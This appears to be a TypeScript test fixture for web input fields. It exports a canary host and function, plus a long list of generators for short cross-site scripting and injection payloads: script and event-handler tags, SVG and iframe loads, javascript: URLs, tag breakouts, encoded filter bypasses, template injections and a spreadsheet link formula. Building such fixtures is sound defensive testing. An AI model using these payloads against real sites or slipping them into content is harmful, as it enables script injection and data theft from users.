/** Host and function that payloads try to reach. Neither must ever be reached. */
export const canary = { host: 'canary.test', call: 'pwned' }

const { host, call } = canary
const to = (n: number): string => `//${host}/${n}`
const run = (n: number): string => `${call}(${n})`

/**
 * Texts that execute or fetch when interpreted as markup, URL, style or expression. `n` identifies the payload. They
 * are short, because most fields accept 50 or 100 characters. The first one occurs in every kind of place.
 */
export const hostileScripts: readonly ((n: number) => string)[] = [
  // Elements that run immediately, from text content or an attribute.
  (n) => `"><img src=${to(n)} onerror=${run(n)}>`, (n) => `'><script>${run(n)}</script>`, (n) => `"><svg onload=${run(n)}>`,
  (n) => `<iframe srcdoc="<script>top.${run(n)}</script>">`, (n) => `<script>${run(n)}</script>`, (n) => `<SCRIPT SRC=${to(n)}></SCRIPT>`,
  (n) => `<img src=x onerror=${run(n)}>`, (n) => `<img/src=x/onerror=${run(n)}>`, (n) => `<ImG sRc=x OnErRoR=${run(n)}>`, (n) => `<img src=x onerror="${run(n)}"`,
  (n) => `<img src=\`x\` onerror=${run(n)}>`, (n) => `<img src=x:x onerror\u00a0=${run(n)} onerror =${run(n)}>`, (n) => `<img srcset="${to(n)} 2x">`, (n) => `<picture><source srcset=${to(n)}><img></picture>`,
  (n) => `<image href=${to(n)} onerror=${run(n)}>`, (n) => `<svg/onload=${run(n)}>`, (n) => `<svg><script>${run(n)}</script></svg>`, (n) => `<svg><script href=${to(n)} /></svg>`,
  (n) => `<svg><animate onbegin=${run(n)} attributeName=x dur=1s>`, (n) => `<svg><set onbegin=${run(n)} attributeName=x>`, (n) => `<svg><image href=${to(n)}></svg>`, (n) => `<svg><use href="${to(n)}#a"></svg>`,
  (n) => `<svg><foreignObject><img src=x onerror=${run(n)}>`, (n) => `<svg><a href="javascript:${run(n)}"><text y=9>x</text></a>`, (n) => `<svg><style>*{fill:url(${to(n)})}</style></svg>`, (n) => `<math href="javascript:${run(n)}">x</math>`,
  (n) => `<body onload=${run(n)}>`, (n) => `<body onpageshow=${run(n)}>`, (n) => `<frameset onload=${run(n)}>`, (n) => `<iframe onload=${run(n)}>`, (n) => `<iframe src="javascript:top.${run(n)}">`, (n) => `<iframe src=${to(n)}>`,
  (n) => `<object data=${to(n)} onerror=${run(n)}>`, (n) => `<object data="javascript:${run(n)}">`, (n) => `<embed src=${to(n)}>`, (n) => `<embed src="javascript:${run(n)}">`,
  (n) => `<video src=x onerror=${run(n)}>`, (n) => `<video><source onerror=${run(n)}>`, (n) => `<video poster=${to(n)}>`, (n) => `<audio src=x onerror=${run(n)}>`, (n) => `<track default src=${to(n)}>`,
  (n) => `<input autofocus onfocus=${run(n)}>`, (n) => `<select autofocus onfocus=${run(n)}>`, (n) => `<textarea autofocus onfocus=${run(n)}>`, (n) => `<button autofocus onfocus=${run(n)}>`, (n) => `<input type=image src=${to(n)}>`,
  (n) => `<details open ontoggle=${run(n)}>`, (n) => `<marquee onstart=${run(n)}>`, (n) => `<x tabindex=0 autofocus onfocus=${run(n)}>`, (n) => `<div contenteditable autofocus onfocus=${run(n)}>`,
  (n) => `<style>*{animation:a}@keyframes a{}</style><b onanimationstart=${run(n)}>`, (n) => `<b style=transition:1s ontransitionend=${run(n)}>`, (n) => `<dialog open onfocusin=${run(n)}><input autofocus>`,
  // Redirects, loads, or changes to the base of the page's URLs.
  (n) => `<base href=${to(n)}/>`, (n) => `<meta http-equiv=refresh content="0;url=${to(n)}">`, (n) => `<link rel=stylesheet href=${to(n)}>`, (n) => `<link rel=preload as=script href=${to(n)}>`, (n) => `<link rel=dns-prefetch href=${to(n)}>`,
  (n) => `<style>@import '${to(n)}';</style>`, (n) => `<p style="background:url(${to(n)})">`, (n) => `<table background=${to(n)}>`, (n) => `<form action=${to(n)}><input type=submit autofocus>`, (n) => `<a href=${to(n)} ping=${to(n)}>x</a>`,
  (n) => `<a href="javascript:${run(n)}">x</a>`, (n) => `<a href="jAva&#9;script:${run(n)}">x</a>`, (n) => `<a href="data:text/html,<script>${run(n)}</script>">x</a>`, (n) => `javascript:${run(n)}`, (n) => `data:text/html,<script>${run(n)}</script>`, (n) => `${to(n)}/x.js`,
  // Breaking out of enclosing elements.
  (n) => `</script><script>${run(n)}</script>`, (n) => `</title><script>${run(n)}</script>`, (n) => `</textarea><script>${run(n)}</script>`, (n) => `</style><script>${run(n)}</script>`, (n) => `--><script>${run(n)}</script><!--`, (n) => `]]><script>${run(n)}</script>`,
  (n) => `</select></option><img src=x onerror=${run(n)}>`, (n) => `</td></tr></table><img src=x onerror=${run(n)}>`, (n) => `" onmouseover=${run(n)} x="`, (n) => `' autofocus onfocus=${run(n)} '`, (n) => `\` onfocus=${run(n)} autofocus \``, (n) => `" style="background:url(${to(n)})`,
  (n) => `");${run(n)};//`, (n) => `');${run(n)};//`, (n) => `\`;${run(n)};//`, (n) => String.raw`\";${run(n)};//`, (n) => `*/${run(n)}/*`, (n) => `;}body{background:url(${to(n)})}`,
  // Obfuscated markup that filters, sanitizers or double decoding may reveal.
  (n) => `<scr<script>ipt>${run(n)}</scr</script>ipt>`, (n) => `<<script>${run(n)}//<</script>`, (n) => `&lt;script&gt;${run(n)}&lt;/script&gt;`, (n) => `&#60;img src=x onerror=${run(n)}&#62;`, (n) => `%3Cscript%3E${run(n)}%3C/script%3E`, (n) => String.raw`\u003cscript\u003e${run(n)}\u003c/script\u003e`,
  (n) => String.raw`\x3cimg src=x onerror=${run(n)}\x3e`, (n) => `+ADw-script+AD4-${run(n)}+ADw-/script+AD4-`, (n) => `＜script＞${run(n)}＜/script＞`, (n) => `<noscript><p title="</noscript><img src=x onerror=${run(n)}>">`, (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${run(n)}>`,
  (n) => `<form id=x><input name=attributes><img src=x onerror=${run(n)}>`, (n) => `<template shadowrootmode=open><img src=x onerror=${run(n)}>`, (n) => `![x](x"onerror="${run(n)})`, (n) => `[x](javascript:${run(n)})`, (n) => `\u202e<img src=x onerror=${run(n)}>`,
  // Interpreted as expressions, templates or texts with placeholders.
  (n) => `{{constructor.constructor('${run(n)}')()}}`, (n) => `\${${run(n)}}`, (n) => `#{${run(n)}}`, (n) => `<%= ${run(n)} %>`, (n) => `$t(${run(n)})`, (n) => `{{- ${run(n)}}}`, (n) => `<0><img src=x onerror=${run(n)}></0>`, (n) => `=HYPERLINK("http:${to(n)}","x")`,
]
